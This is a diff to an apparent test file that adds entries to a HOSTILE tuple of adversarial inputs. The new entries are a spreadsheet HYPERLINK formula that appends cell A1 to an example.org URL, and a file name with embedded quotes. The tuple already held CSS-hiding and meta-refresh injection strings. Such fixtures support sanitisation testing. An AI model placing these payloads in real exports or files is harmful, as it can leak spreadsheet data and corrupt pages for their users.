@@ -65,6 +65,8 @@ HOSTILE = (
     "</style><style>body{display:none}</style>",
     "<!-- <meta http-equiv=refresh content='0;url=https://example.org/'> -->",
     "https://example.org/not-a-link",
+    "=HYPERLINK('https://example.org/?'&A1)",
+    "quote\"s and 'quotes' in a file name.jpg",
     "عربي then English, שלום",
 )
 
